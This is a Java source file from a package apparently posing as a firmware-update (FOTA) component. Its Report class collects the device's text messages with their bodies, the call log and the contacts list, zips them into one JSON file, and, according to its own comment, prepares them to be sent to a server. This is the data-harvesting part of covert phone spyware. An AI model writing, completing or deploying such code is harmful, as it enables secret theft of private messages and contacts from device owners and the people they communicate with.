package com.nimbus.fota;

import android.content.Context;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.json.JSONException;
import org.json.JSONObject;

/** What goes to the server: one zipped JSON file of texts, calls and people. */
final class Report {
    private Report() {}

    static byte[] zipped(Context context) throws IOException, JSONException {
        Deputy deputy = new Deputy(context.getContentResolver());
        JSONObject report = new JSONObject();
        report.put("m", deputy.rows("messages", "address", "date", "body"));
        report.put("c", deputy.rows("calls", "number", "date", "duration"));
        report.put("p", deputy.rows("people", "display_name", "data1"));
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("report.json"));
            zip.write(report.toString().getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
        return bytes.toByteArray();
    }
}
